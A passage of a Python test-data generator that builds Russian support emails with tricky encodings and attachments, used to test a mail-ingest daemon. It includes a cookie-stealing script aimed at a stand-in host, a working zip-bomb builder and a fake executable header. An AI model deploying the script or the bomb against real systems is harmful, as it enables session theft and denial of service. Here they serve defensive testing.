"""Build the mail corpus: realistic Russian support emails, one .eml per case.

    python tests/data/make_corpus.py [OUTDIR]      # default: tests/data/corpus/

Every message is assembled byte by byte (headers, boundaries, transfer encodings),
because the point is to reproduce what real clients send, including what they get
wrong: Outlook Express windows-1251 8bit, The Bat! KOI8-R quoted-printable, a KOI8-R
label on windows-1251 bytes, raw 8-bit headers, split and malformed RFC 2047 words,
RFC 2231 file names, broken base64 padding, HTML-only mail, attachments the
regulation accepts and refuses, and the robots and loops maild must never answer.

`expected.json` says, for each file, what a test should find after ingest: the
decoded subject, phrases of the decoded text, the sender, the attachment decisions
and whether maild answers the sender automatically. The output is deterministic:
fixed dates, Message-IDs and boundaries, images and archives built here without
zlib's compressor (its output differs between zlib builds), so running the script
again reproduces the committed files byte for byte.
"""

from __future__ import annotations

import base64
import binascii
import io
import json
import quopri
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
DEFAULT_OUT = HERE / "corpus"
SUPPORT = "support@example.com"
DATE = "Wed, 25 Nov 2026 10:15:00 +0300"
CRLF = b"\r\n"

# --- building blocks ----------------------------------------------------------


def b_word(text: str, charset: str) -> str:
    """One RFC 2047 B encoded word."""
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="


def b_words_split(data: bytes, charset: str, cut: int) -> str:
    """Two B words over raw bytes cut at `cut` (may split a character), folded."""
    first = base64.b64encode(data[:cut]).decode()
    second = base64.b64encode(data[cut:]).decode()
    return f"=?{charset}?B?{first}?=\r\n =?{charset}?B?{second}?="


def q_encode(data: bytes) -> str:
    """RFC 2047 Q encoding of raw bytes: letters and digits as is, space as '_'."""
    out = []
    for byte in data:
        ch = chr(byte)
        if ch == " ":
            out.append("_")
        elif ch.isascii() and ch.isalnum():
            out.append(ch)
        else:
            out.append(f"={byte:02X}")
    return "".join(out)


def qp_body(text: str, charset: str) -> bytes:
    """Quoted-printable body with CRLF line ends, as a mail client writes it."""
    data = text.replace("\n", "\r\n").encode(charset)
    return quopri.encodestring(data).replace(b"\r\n", b"\n").replace(b"\n", CRLF)


def b64_body(data: bytes) -> bytes:
    """Base64 in 76-character lines."""
    return base64.encodebytes(data).replace(b"\n", CRLF)


def crlf(text: str, charset: str = "ascii") -> bytes:
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode(charset)


@dataclass
class Part:
    headers: list[tuple[str, str]]
    body: bytes

    def render(self) -> bytes:
        head = b"".join(f"{k}: {v}".encode("ascii") + CRLF for k, v in self.headers)
        return head + CRLF + self.body


def text_part(text: str, charset: str, cte: str, subtype: str = "plain") -> Part:
    payload = text.replace("\n", "\r\n").encode(charset)
    if cte == "quoted-printable":
        body = qp_body(text, charset)
    elif cte == "base64":
        body = b64_body(payload)
    else:
        body = payload
    return Part(
        [
            ("Content-Type", f'text/{subtype}; charset="{charset}"'),
            ("Content-Transfer-Encoding", cte),
        ],
        body,
    )


def file_part(content_type: str, disposition_params: str, data: bytes, name_params: str) -> Part:
    return Part(
        [
            ("Content-Type", f"{content_type};{name_params}"),
            ("Content-Transfer-Encoding", "base64"),
            ("Content-Disposition", f"attachment;{disposition_params}"),
        ],
        b64_body(data),
    )


def attachment(content_type: str, filename: str, data: bytes) -> Part:
    """An attachment the way Thunderbird names it: quoted name and filename."""
    return file_part(content_type, f' filename="{filename}"', data, f' name="{filename}"')


def multipart(subtype: str, boundary: str, parts: list[Part], preamble: str = "") -> Part:
    body = b""
    if preamble:
        body += crlf(preamble) + CRLF
    for part in parts:
        body += b"--" + boundary.encode() + CRLF + part.render() + CRLF
    body += b"--" + boundary.encode() + b"--" + CRLF
    return Part([("Content-Type", f'multipart/{subtype};\r\n boundary="{boundary}"')], body)


def message(headers: list[tuple[str, str | bytes]], body: Part | bytes) -> bytes:
    """Top-level headers (str, or bytes for raw 8-bit values) then the body."""
    out = b""
    for name, value in headers:
        raw = value if isinstance(value, bytes) else value.encode("ascii")
        out += name.encode("ascii") + b": " + raw + CRLF
    if isinstance(body, Part):
        out += b"MIME-Version: 1.0" + CRLF + body.render()
    else:
        out += CRLF + body
    return out


def envelope(
    sender: str, subject: str | bytes, msgid: str | None, extra: list[tuple[str, str]] = ()
) -> list[tuple[str, str | bytes]]:
    headers: list[tuple[str, str | bytes]] = [("From", sender), ("To", SUPPORT)]
    headers += [("Subject", subject), ("Date", DATE)]
    if msgid is not None:
        headers.append(("Message-ID", msgid))
    headers += list(extra)
    return headers


# --- files: images and archives, built without a compressor ---------------------


def _zlib_stored(data: bytes) -> bytes:
    """A zlib stream of stored (uncompressed) blocks: identical from any zlib build."""
    out = bytearray(b"\x78\x01")
    for start in range(0, max(len(data), 1), 65535):
        block = data[start : start + 65535]
        final = 1 if start + 65535 >= len(data) else 0
        out += bytes([final]) + struct.pack("<HH", len(block), len(block) ^ 0xFFFF) + block
    out += struct.pack(">I", zlib.adler32(data))
    return bytes(out)


def png(width: int = 24, height: int = 16) -> bytes:
    """A real RGB PNG: a grey window with a red error bar."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = binascii.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    rows = b""
    for y in range(height):
        colour = b"\xd0\x20\x20" if y < 3 else b"\xf0\xf0\xf0"
        rows += b"\x00" + colour * width
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", _zlib_stored(rows))
        + chunk(b"IEND", b"")
    )


# The classic 1x1 two-colour GIF89a.
GIF = bytes.fromhex(
    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
)

# A minimal 1x1 greyscale JPEG (arithmetic coded, no JFIF segment): 125 bytes.
JPEG = bytes.fromhex(
    "ffd8ffdb004300030202020203020202030303030406040404040408060605060908"
    "0a0a090809090a0c0f0c0a0b0e0b09090d110d0e0f101011100a0c12131210130f10"
    "1010ffc9000b080001000101011100ffcc000600101005ffda0008010100003f00d2"
    "cf20ffd9"
)


def bmp(width: int = 16, height: int = 12) -> bytes:
    """A real 24-bit Windows bitmap (BITMAPINFOHEADER), what Paint saves."""
    row = (b"\xff\xff\xff" * width).ljust((width * 3 + 3) // 4 * 4, b"\x00")
    pixels = row * height
    offset = 14 + 40
    header = b"BM" + struct.pack("<IHHI", offset + len(pixels), 0, 0, offset)
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, len(pixels), 2835, 2835, 0, 0)
    return header + info + pixels


def exe() -> bytes:
    """The start of a Windows PE executable: what a '.png' from a trojan really is."""
    dos = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
    dos = dos.ljust(0x3C, b"\x00") + struct.pack("<I", 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    stub += b"This program cannot be run in DOS mode.\r\r\n$"
    head = bytes(dos + stub).ljust(0x80, b"\x00")
    pe = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 3, 0x5F5E1000, 0, 0, 0xE0, 0x102)
    return (head + pe).ljust(1024, b"\x00")


def _zip_time() -> tuple[int, int]:
    # 25.11.2026 10:00:00 in DOS format
    return (10 << 11) | (0 << 5) | 0, ((2026 - 1980) << 9) | (11 << 5) | 25


def zip_with_bmp() -> bytes:
    """A ZIP (stored, as some archivers do) with a BMP screenshot inside: accepted."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as archive:
        info = zipfile.ZipInfo("Ошибка корзины.bmp", date_time=(2026, 11, 25, 10, 0, 0))
        info.create_system = 0  # made on Windows
        info.external_attr = 0x20  # FILE_ATTRIBUTE_ARCHIVE
        archive.writestr(info, bmp(64, 48))
    return buf.getvalue()


class _BitWriter:
    """Deflate bit packing: fields LSB first, Huffman codes MSB first."""

    def __init__(self) -> None:
        self.out = bytearray()
        self.acc = 0
        self.nbits = 0

    def bits(self, value: int, count: int) -> None:
        self.acc |= value << self.nbits
        self.nbits += count
        while self.nbits >= 8:
            self.out.append(self.acc & 0xFF)
            self.acc >>= 8
            self.nbits -= 8

    def code(self, code: int, length: int) -> None:
        for i in reversed(range(length)):
            self.bits((code >> i) & 1, 1)

    def done(self) -> bytes:
        if self.nbits:
            self.out.append(self.acc & 0xFF)
        return bytes(self.out)


def deflate_zeros(matches: int) -> tuple[bytes, int]:
    """Raw deflate of 1 + 258*matches zero bytes: a literal 0, then <258, 1> copies."""
    w = _BitWriter()
    w.bits(1, 1)  # BFINAL
    w.bits(1, 2)  # fixed Huffman codes
    w.code(0x30 + 0, 8)  # literal 0
    for _ in range(matches):
        w.code(0xC0 + (285 - 280), 8)  # length 258
        w.code(0, 5)  # distance 1
    w.code(0, 7)  # end of block
    return w.done(), 1 + 258 * matches


def zip_bomb(entries: int = 100) -> bytes:
    """An overlapping zip bomb (Fifield 2019): every entry reuses one compressed kernel.

    About 10 KB that unpacks to 100 MB: each central directory entry points at the
    same local file whose data inflates to 1 MB of zeros.
    """
    kernel, size = deflate_zeros(4064)
    crc = binascii.crc32(bytes(size))
    mtime, mdate = _zip_time()
    name = b"screenshot.bmp"
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, mtime, mdate, crc, len(kernel), size, len(name), 0
    )
    body = local + name + kernel
    central = b""
    for i in range(entries):
        entry = f"screenshot{i:03d}.bmp".encode()
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                mtime,
                mdate,
                crc,
                len(kernel),
                size,
                len(entry),
                0,
                0,
                0,
                0,
                0x20,
                0,
            )
            + entry
        )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(central), len(body), 0)
    return body + central + end


# --- the cases ------------------------------------------------------------------


@dataclass
class Case:
    """One corpus file and what a test must find in it."""

    name: str
    description: str
    build: Callable[[], bytes]
    sender: str
    subject: str  # the decoded Subject header
    text: list[str]  # phrases of the decoded body text
    answered: bool  # does the sender get an automatic confirmation?
    message_id: str | None = None  # None: the message has none, maild makes one up
    ticket_subject: str | None = None  # the ticket's subject (no Re:), if it differs
    text_absent: list[str] = field(default_factory=list)
    attachments: list[dict[str, Any]] = field(default_factory=list)
    bmp_hint: bool = False  # confirmation asks for the BMP zipped (ZIP/RAR)
    robot: str | None = None  # why maild must not answer (screen rule)


def accepted(filename: str) -> dict[str, Any]:
    return {"filename": filename, "accepted": True}


def refused(filename: str, reason_contains: str) -> dict[str, Any]:
    return {"filename": filename, "accepted": False, "reason_contains": reason_contains}


CASES: list[Case] = []


def case(**kwargs: Any) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def register(build: Callable[[], bytes]) -> Callable[[], bytes]:
        CASES.append(Case(build=build, **kwargs))
        return build

    return register


def mid(name: str, domain: str) -> str:
    return f"<corpus-{name}@{domain}>"


# 01 -------------------------------------------------------------------------
OUTLOOK_TEXT = """Добрый день!

После обновления модуля обмена не выгружаются заказы в 1С: в журнале
обмена пишет "Ошибка авторизации", хотя логин и пароль не меняли.
Заказы за вчера и сегодня так и висят со статусом "Новый".

Прошу помочь, бухгалтерия ждёт.

--
С уважением,
Ольга Смирнова
ООО "СтройМаркет", тел. (495) 123-45-67
"""
OUTLOOK_SUBJECT = "Ошибка при выгрузке заказов в 1С после обновления"


@case(
    name="01_outlook_express_cp1251_8bit",
    description="Outlook Express 6: windows-1251 8bit body, subject in two folded B words",
    sender="olga.smirnova@stroymarket.ru",
    subject=OUTLOOK_SUBJECT,
    text=["не выгружаются заказы в 1С", "Ошибка авторизации", "бухгалтерия ждёт"],
    answered=True,
    message_id=mid("01", "stroymarket.ru"),
)
def _outlook() -> bytes:
    subject = OUTLOOK_SUBJECT.encode("cp1251")
    headers = envelope(
        f'"{b_word("Ольга Смирнова", "windows-1251")}" <olga.smirnova@stroymarket.ru>',
        b_words_split(subject, "windows-1251", 27),
        mid("01", "stroymarket.ru"),
        [
            ("X-Priority", "3"),
            ("X-MSMail-Priority", "Normal"),
            ("X-Mailer", "Microsoft Outlook Express 6.00.2900.5931"),
            ("X-MimeOLE", "Produced By Microsoft MimeOLE V6.00.2900.6157"),
        ],
    )
    return message(headers, text_part(OUTLOOK_TEXT, "windows-1251", "8bit"))


# 02 -------------------------------------------------------------------------
BAT_TEXT = """Здравствуйте, уважаемая служба поддержки!

На сайте перестала работать форма обратной связи: после нажатия кнопки
"Отправить" страница перезагружается, а письмо не приходит.
Почтовый сервер проверяли - с него всё уходит.

Версия продукта 7.0.3, PHP 8.1.

--
Best regards,
 Сергей                          mailto:sergey@mebel-nsk.ru
"""
BAT_SUBJECT = "Не приходят письма с формы обратной связи"


@case(
    name="02_thebat_koi8r_qp",
    description="The Bat!: KOI8-R quoted-printable body, subject in folded koi8-r Q words",
    sender="sergey@mebel-nsk.ru",
    subject=BAT_SUBJECT,
    text=["форма обратной связи", "письмо не приходит", "Версия продукта 7.0.3"],
    answered=True,
    message_id=mid("02", "mebel-nsk.ru"),
)
def _thebat() -> bytes:
    raw = BAT_SUBJECT.encode("koi8-r")
    # Split inside the word "письма": the whitespace between encoded words vanishes.
    cut = BAT_SUBJECT.index("сьма")
    subject = f"=?koi8-r?Q?{q_encode(raw[:cut])}?=\r\n =?koi8-r?Q?{q_encode(raw[cut:])}?="
    headers = envelope(
        f"{b_word('Сергей Кузнецов', 'koi8-r')} <sergey@mebel-nsk.ru>",
        subject,
        mid("02", "mebel-nsk.ru"),
        [("X-Mailer", "The Bat! (v3.99.3) Professional"), ("Reply-To", "sergey@mebel-nsk.ru")],
    )
    return message(headers, text_part(BAT_TEXT, "koi8-r", "quoted-printable"))


# 03 -------------------------------------------------------------------------
UTF8_TEXT = """Здравствуйте!

Подскажите, пожалуйста, как настроить доставку СДЭК для двух складов:
Москва и Екатеринбург. Сейчас расчёт всегда идёт от московского склада,
и покупатели из Тюмени видят завышенную стоимость.

Спасибо! 🙏
Анна
"""
UTF8_SUBJECT = "Расчёт доставки СДЭК от двух складов"


@case(
    name="03_utf8_base64",
    description="Modern client: UTF-8 base64 body, subject B words split inside a character",
    sender="anna.volkova@gmail.example",
    subject=UTF8_SUBJECT,
    text=["настроить доставку СДЭК", "завышенную стоимость", "Спасибо! 🙏"],
    answered=True,
    message_id=mid("03", "mail.gmail.example"),
)
def _utf8() -> bytes:
    raw = UTF8_SUBJECT.encode("utf-8")
    # Cut between the two bytes of a Cyrillic letter: must be joined before decoding.
    subject = b_words_split(raw, "UTF-8", 13)
    headers = envelope(
        f"=?UTF-8?B?{base64.b64encode('Анна Волкова'.encode()).decode()}?= "
        "<anna.volkova@gmail.example>",
        subject,
        mid("03", "mail.gmail.example"),
        [("Content-Language", "ru")],
    )
    return message(headers, text_part(UTF8_TEXT, "UTF-8", "base64"))


# 04 -------------------------------------------------------------------------
MISLABEL_TEXT = """Добрый вечер.

Не могу зайти в административную панель: после ввода пароля снова
открывается страница авторизации. Кэш браузера чистил, пробовал
в другом браузере - то же самое.

Николай
"""


@case(
    name="04_koi8r_label_on_cp1251",
    description="Body labelled koi8-r but written in windows-1251 (a misconfigured client)",
    sender="nikolay@avtozapchasti.example",
    subject="Не пускает в админку",
    text=["административную панель", "страница авторизации", "Николай"],
    answered=True,
    message_id=mid("04", "avtozapchasti.example"),
)
def _mislabel() -> bytes:
    headers = envelope(
        "Nikolay <nikolay@avtozapchasti.example>",
        b_word("Не пускает в админку", "koi8-r"),
        mid("04", "avtozapchasti.example"),
    )
    body = Part(
        [("Content-Type", "text/plain; charset=koi8-r"), ("Content-Transfer-Encoding", "8bit")],
        crlf(MISLABEL_TEXT, "cp1251"),
    )
    return message(headers, body)


# 05 -------------------------------------------------------------------------
@case(
    name="05_wrong_charset_encoded_word",
    description="Subject encoded word labelled koi8-r carrying windows-1251 bytes",
    sender="buh@oooromashka.example",
    subject="Не формируется счёт на оплату",
    text=["счёт на оплату", "пустой PDF"],
    answered=True,
    message_id=mid("05", "oooromashka.example"),
)
def _wrong_word() -> bytes:
    subject = "Не формируется счёт на оплату".encode("cp1251")
    headers = envelope(
        f"{b_word('Бухгалтерия', 'utf-8')} <buh@oooromashka.example>",
        f"=?koi8-r?B?{base64.b64encode(subject).decode()}?=",
        mid("05", "oooromashka.example"),
    )
    text = "Здравствуйте! При нажатии «Печать» счёт на оплату открывается как пустой PDF."
    return message(headers, text_part(text, "utf-8", "quoted-printable"))


# 06 -------------------------------------------------------------------------
NOCHARSET_TEXT = """Здравствуйте.

Выгрузка прайс-листа в Яндекс.Маркет падает с ошибкой "Превышено время
ожидания". Файл выгрузки примерно на 40 тысяч товаров.

Дмитрий, отдел продаж
"""


@case(
    name="06_no_mime_headers_raw_cp1251",
    description="No MIME headers at all: raw windows-1251 bytes in Subject and body",
    sender="dmitry@optovik.example",
    subject="Ошибка выгрузки в Яндекс.Маркет",
    text=["Превышено время", "40 тысяч товаров"],
    answered=True,
    message_id=mid("06", "optovik.example"),
)
def _no_charset() -> bytes:
    headers = envelope(
        "dmitry@optovik.example",
        "Ошибка выгрузки в Яндекс.Маркет".encode("cp1251"),
        mid("06", "optovik.example"),
        [("X-Mailer", "1C:Enterprise 8.3")],
    )
    return message(headers, crlf(NOCHARSET_TEXT, "cp1251"))


# 07 -------------------------------------------------------------------------
@case(
    name="07_text_plain_without_charset_utf8",
    description="PHP mail(): Content-Type text/plain with no charset, raw UTF-8 header and body",
    sender="igor@site-na-php.example",
    subject="Перестал работать поиск по каталогу",
    text=["поиск по каталогу", "ничего не найдено"],
    answered=True,
    message_id=mid("07", "site-na-php.example"),
)
def _no_charset_utf8() -> bytes:
    headers = envelope(
        "Игорь <igor@site-na-php.example>".encode(),
        "Перестал работать поиск по каталогу".encode(),
        mid("07", "site-na-php.example"),
        [("X-Mailer", "PHP/8.2.12")],
    )
    text = (
        "Добрый день! Перестал работать поиск по каталогу: на любой запрос «ничего не найдено».\n"
    )
    body = Part([("Content-Type", "text/plain")], crlf(text, "utf-8"))
    return message(headers, body)


# 08 -------------------------------------------------------------------------
@case(
    name="08_malformed_encoded_word",
    description="Subject B word without the closing ?= and without base64 padding",
    sender="elena@cvety-spb.example",
    subject="Re: Оплата картой не проходит",
    ticket_subject="Оплата картой не проходит",
    text=["Оплата картой", "ошибку 3-D Secure"],
    answered=True,
    message_id=mid("08", "cvety-spb.example"),
)
def _malformed() -> bytes:
    encoded = base64.b64encode("Оплата картой не проходит".encode()).decode().rstrip("=")
    headers = envelope(
        f"{b_word('Елена', 'utf-8')} <elena@cvety-spb.example>",
        f"Re: =?utf-8?B?{encoded}",
        mid("08", "cvety-spb.example"),
    )
    text = "Оплата картой не проходит, покупатели видят ошибку 3-D Secure."
    return message(headers, text_part(text, "utf-8", "8bit"))


# 09 -------------------------------------------------------------------------
@case(
    name="09_encoded_word_with_spaces",
    description="Web mailer writes raw spaces inside a windows-1251 Q encoded word",
    sender="info@detskie-igrushki.example",
    subject="Ошибка при оплате заказа",
    text=["Ошибка при оплате", "номер заказа 10543"],
    answered=True,
    message_id=mid("09", "detskie-igrushki.example"),
)
def _spaces_in_word() -> bytes:
    words = [q_encode(w.encode("cp1251")) for w in ["Ошибка", "при", "оплате", "заказа"]]
    headers = envelope(
        "info@detskie-igrushki.example",
        "=?windows-1251?Q?" + " ".join(words) + "?=",
        mid("09", "detskie-igrushki.example"),
    )
    text = "Ошибка при оплате, номер заказа 10543."
    return message(headers, text_part(text, "windows-1251", "quoted-printable"))


# 10 -------------------------------------------------------------------------
def _with_files(
    name: str,
    sender: str,
    subject: str,
    text: str,
    files: list[Part],
    boundary: str,
    extra: list[tuple[str, str]] = (),
) -> bytes:
    headers = envelope(sender, b_word(subject, "utf-8"), mid(name, sender.split("@")[-1]), extra)
    body = multipart(
        "mixed",
        boundary,
        [text_part(text, "utf-8", "quoted-printable"), *files],
        preamble="This is a multi-part message in MIME format.",
    )
    return message(headers, body)


@case(
    name="10_rfc2231_filename",
    description="Screenshot named with RFC 2231 filename*=utf-8''... (Thunderbird, mutt)",
    sender="pavel@remont-pk.example",
    subject="Не отображается корзина",
    text=["скриншот прилагаю"],
    answered=True,
    message_id=mid("10", "remont-pk.example"),
    attachments=[accepted("Скрин.png")],
)
def _rfc2231() -> bytes:
    pct = "%D0%A1%D0%BA%D1%80%D0%B8%D0%BD.png"
    shot = file_part("image/png", f" filename*=utf-8''{pct}", png(), f" name*=utf-8''{pct}")
    return _with_files(
        "10",
        "pavel@remont-pk.example",
        "Не отображается корзина",
        "Корзина пустая после добавления товара, скриншот прилагаю.",
        [shot],
        "------------0A1B2C3D4E5F60718293A4B5",
    )


# 11 -------------------------------------------------------------------------
LONG_NAME = "Скриншот ошибки в корзине.png"


@case(
    name="11_rfc2231_continuations",
    description="Long Cyrillic file name in RFC 2231 continuations filename*0*/filename*1*",
    sender="marina@kosmetika-online.example",
    subject="Ошибка в корзине после обновления",
    text=["кнопка «Оформить» не нажимается"],
    answered=True,
    message_id=mid("11", "kosmetika-online.example"),
    attachments=[accepted(LONG_NAME)],
)
def _rfc2231_continuations() -> bytes:
    from urllib.parse import quote

    encoded = quote(LONG_NAME.encode("utf-8"), safe=".")
    cut = encoded.index("%20%D0%B2")  # the second piece starts at " в корзине.png"
    first, second = encoded[:cut], encoded[cut:]
    disposition = f"\r\n filename*0*=utf-8''{first};\r\n filename*1*={second}"
    params = f"\r\n name*0*=utf-8''{first};\r\n name*1*={second}"
    shot = file_part("image/png", disposition, png(32, 20), params)
    return _with_files(
        "11",
        "marina@kosmetika-online.example",
        "Ошибка в корзине после обновления",
        "После обновления кнопка «Оформить» не нажимается. Скриншот во вложении.",
        [shot],
        "------------E5F60718293A4B50A1B2C3D4",
    )


# 12 -------------------------------------------------------------------------
@case(
    name="12_outlook_rfc2047_filename_jpg",
    description="Outlook: JPG photo named with an RFC 2047 windows-1251 word inside quotes",
    sender="kladovshik@sklad-24.example",
    subject="Фото экрана с ошибкой",
    text=["фото экрана"],
    answered=True,
    message_id=mid("12", "sklad-24.example"),
    attachments=[accepted("Ошибка на складе.jpg")],
)
def _outlook_filename() -> bytes:
    word = b_word("Ошибка на складе.jpg", "windows-1251")
    photo = file_part("image/jpeg", f' filename="{word}"', JPEG, f' name="{word}"')
    return _with_files(
        "12",
        "kladovshik@sklad-24.example",
        "Фото экрана с ошибкой",
        "Добрый день, высылаю фото экрана с ошибкой при списании.",
        [photo],
        "----=_NextPart_000_0012_01DB3F2A.6C1E5B40",
        [("X-Mailer", "Microsoft Outlook 16.0")],
    )


# 13 -------------------------------------------------------------------------
BROKEN_TEXT = """Здравствуйте!

При импорте товаров из CSV пропадают описания у половины позиций.
Файл в кодировке UTF-8, разделитель точка с запятой.

Заранее спасибо,
Виктор
"""


@case(
    name="13_base64_broken_padding",
    description="UTF-8 base64 body with the padding cut off and a junk character in a line",
    sender="viktor@tehnika-shop.example",
    subject="Импорт CSV теряет описания",
    text=["пропадают описания", "разделитель точка с запятой", "Виктор"],
    answered=True,
    message_id=mid("13", "tehnika-shop.example"),
)
def _broken_b64() -> bytes:
    data = BROKEN_TEXT.replace("\n", "\r\n").encode()
    while len(data) % 3 == 0:  # make sure there is padding to lose
        data += b"\r\n"
    encoded = base64.b64encode(data).decode().rstrip("=")
    lines = [encoded[i : i + 76] for i in range(0, len(encoded), 76)]
    lines[1] = lines[1][:40] + "!" + lines[1][40:]  # a stray character a gateway added
    headers = envelope(
        "viktor@tehnika-shop.example",
        b_word("Импорт CSV теряет описания", "utf-8"),
        mid("13", "tehnika-shop.example"),
    )
    body = Part(
        [("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "base64")],
        crlf("\n".join(lines) + "\n"),
    )
    return message(headers, body)


# 14 -------------------------------------------------------------------------
HTML_ONLY = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Письмо</title>
<style>p { color: #333 }</style>
<script>document.location='https://evil.example/steal?c='+document.cookie</script>
</head>
<body>
<p>Здравствуйте!</p>
<p>Товары не добавляются в <a href="https://shop.zoo-mir.example/cart/">корзину</a>,
появляется <b>сообщение об ошибке</b>.</p>
<ul><li>Браузер: Chrome 131</li><li>Версия: 7.0.3</li></ul>
<p>С уважением,<br>Татьяна</p>
</body></html>
"""


@case(
    name="14_html_only",
    description="HTML-only mail (web mail) with a script, a style and a link",
    sender="tatiana@zoo-mir.example",
    subject="Товары не добавляются в корзину",
    text=[
        "Товары не добавляются в корзину (https://shop.zoo-mir.example/cart/)",
        "сообщение об ошибке",
        "Chrome 131",
        "Татьяна",
    ],
    text_absent=["document.cookie", "<p>", "color: #333"],
    answered=True,
    message_id=mid("14", "zoo-mir.example"),
)
def _html_only() -> bytes:
    headers = envelope(
        f"{b_word('Татьяна', 'utf-8')} <tatiana@zoo-mir.example>",
        b_word("Товары не добавляются в корзину", "utf-8"),
        mid("14", "zoo-mir.example"),
    )
    return message(headers, text_part(HTML_ONLY, "utf-8", "quoted-printable", "html"))


# 15 -------------------------------------------------------------------------
ALT_PLAIN = "Добрый день!\n\nНе пересчитываются остатки после проведения поступления.\n\nГалина\n"
ALT_HTML = (
    "<div>Добрый день!</div><div><br></div>"
    "<div>Не пересчитываются остатки после проведения <i>поступления</i>.</div>"
    "<div><br></div><div>Галина</div>"
)


@case(
    name="15_multipart_alternative",
    description="multipart/alternative plain + HTML in windows-1251 quoted-printable",
    sender="galina@produkty-optom.example",
    subject="Не пересчитываются остатки",
    text=["Не пересчитываются остатки после проведения поступления", "Галина"],
    text_absent=["<div>", "<i>"],
    answered=True,
    message_id=mid("15", "produkty-optom.example"),
)
def _alternative() -> bytes:
    headers = envelope(
        "galina@produkty-optom.example",
        b_word("Не пересчитываются остатки", "windows-1251"),
        mid("15", "produkty-optom.example"),
    )
    body = multipart(
        "alternative",
        "----=_Part_15_1234567890.1764054900000",
        [
            text_part(ALT_PLAIN, "windows-1251", "quoted-printable"),
            text_part(ALT_HTML, "windows-1251", "quoted-printable", "html"),
        ],
    )
    return message(headers, body)


# 16-22: attachments ------------------------------------------------------------
@case(
    name="16_png_screenshot",
    description="PNG screenshot: accepted",
    sender="oleg@printshop.example",
    subject="Ошибка на странице оплаты",
    text=["на странице оплаты"],
    answered=True,
    message_id=mid("16", "printshop.example"),
    attachments=[accepted("screenshot.png")],
)
def _png() -> bytes:
    return _with_files(
        "16",
        "oleg@printshop.example",
        "Ошибка на странице оплаты",
        "Ошибка на странице оплаты, скриншот во вложении.",
        [attachment("image/png", "screenshot.png", png())],
        "------------B1C2D3E4F5A6B7C8D9E0F1A2",
    )


@case(
    name="17_gif",
    description="GIF screenshot: accepted",
    sender="irina@ptitsa.example",
    subject="Слетает вёрстка шапки",
    text=["вёрстка шапки"],
    answered=True,
    message_id=mid("17", "ptitsa.example"),
    attachments=[accepted("header.gif")],
)
def _gif() -> bytes:
    return _with_files(
        "17",
        "irina@ptitsa.example",
        "Слетает вёрстка шапки",
        "В мобильной версии слетает вёрстка шапки, запись экрана в GIF.",
        [attachment("image/gif", "header.gif", GIF)],
        "------------C2D3E4F5A6B7C8D9E0F1A2B3",
    )


@case(
    name="18_jpg",
    description="JPG photo of the screen: accepted",
    sender="stanislav@krovlya.example",
    subject="Белый экран в каталоге",
    text=["белый экран"],
    answered=True,
    message_id=mid("18", "krovlya.example"),
    attachments=[accepted("IMG_20261125_101500.jpg")],
)
def _jpg() -> bytes:
    return _with_files(
        "18",
        "stanislav@krovlya.example",
        "Белый экран в каталоге",
        "При переходе в раздел каталога белый экран. Фото с телефона.",
        [attachment("image/jpeg", "IMG_20261125_101500.jpg", JPEG)],
        "------------D3E4F5A6B7C8D9E0F1A2B3C4",
    )


@case(
    name="19_bare_bmp",
    description="A bare BMP screenshot: refused, the customer is asked to send it zipped",
    sender="vasily@stanki.example",
    subject="Не печатается накладная",
    text=["не печатается накладная"],
    answered=True,
    message_id=mid("19", "stanki.example"),
    attachments=[refused("Накладная.bmp", "BMP")],
    bmp_hint=True,
)
def _bmp() -> bytes:
    word = b_word("Накладная.bmp", "windows-1251")
    shot = file_part("image/bmp", f' filename="{word}"', bmp(), f' name="{word}"')
    return _with_files(
        "19",
        "vasily@stanki.example",
        "Не печатается накладная",
        "Здравствуйте, не печатается накладная, прикладываю снимок экрана.",
        [shot],
        "----=_NextPart_000_0019_01DB3F2A.6C1E5B40",
        [("X-Mailer", "Microsoft Outlook 14.0")],
    )


@case(
    name="20_zip_with_bmp",
    description="A ZIP with a BMP inside: accepted (the regulation's way to send BMP)",
    sender="vasily.second@stanki.example",
    subject="Накладная, скриншот в архиве",
    text=["в архиве"],
    answered=True,
    message_id=mid("20", "stanki.example"),
    attachments=[accepted("Скриншот.zip")],
)
def _zip_bmp() -> bytes:
    word = b_word("Скриншот.zip", "windows-1251")
    archive = file_part(
        "application/x-zip-compressed", f' filename="{word}"', zip_with_bmp(), f' name="{word}"'
    )
    return _with_files(
        "20",
        "vasily.second@stanki.example",
        "Накладная, скриншот в архиве",
        "Высылаю скриншот в архиве, как вы просили.",
        [archive],
        "----=_NextPart_000_0020_01DB3F2A.6C1E5B40",
    )


@case(
    name="21_zip_bomb",
    description="An overlapping zip bomb (10 KB -> 100 MB): refused",
    sender="anonymous@free-mail.example",
    subject="Скриншоты ошибки",
    text=["все скриншоты в архиве"],
    answered=True,
    message_id=mid("21", "free-mail.example"),
    attachments=[refused("screens.zip", "сжат необычно сильно")],
)
def _bomb() -> bytes:
    return _with_files(
        "21",
        "anonymous@free-mail.example",
        "Скриншоты ошибки",
        "Здравствуйте, все скриншоты в архиве.",
